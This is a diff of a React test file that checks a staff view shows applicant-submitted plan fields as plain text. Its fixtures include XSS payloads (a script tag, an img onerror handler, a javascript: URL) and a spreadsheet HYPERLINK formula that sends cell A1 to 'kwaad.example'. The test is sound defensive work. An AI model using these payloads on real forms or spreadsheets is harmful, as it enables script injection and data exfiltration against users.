@@ -13,6 +13,7 @@ const hostile = '<script>alert("x")</script> <img src=x onerror=alert(1)>';
 const formula = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")';
 
 const plan = {
+  id: "plan-1",
   title: hostile,
   contactName: hostile,
   email: "javascript:alert(1)",
@@ -33,12 +34,15 @@ const plan = {
 };
 
 test("what applicants wrote stays text for staff too", () => {
-  const { container } = render(<StaffPlanParts plan={plan} />);
+  const { container } = render(<StaffPlanParts slug="ronde" plan={plan} />);
   expect(container.querySelectorAll("script, img, iframe, object, [onerror]")).toHaveLength(0);
   const links = within(container)
     .getAllByRole("link")
     .map((link) => link.getAttribute("href"));
-  expect(links).toEqual(["https://bestanden.example/map/begroting%202022.xlsx?x=1"]);
+  expect(links).toEqual([
+    "https://bestanden.example/map/begroting%202022.xlsx?x=1",
+    "/rounds/ronde/plans/plan-1/versions/1",
+  ]);
   expect(container.textContent).toContain(hostile);
   expect(container.textContent).toContain(formula);
 });
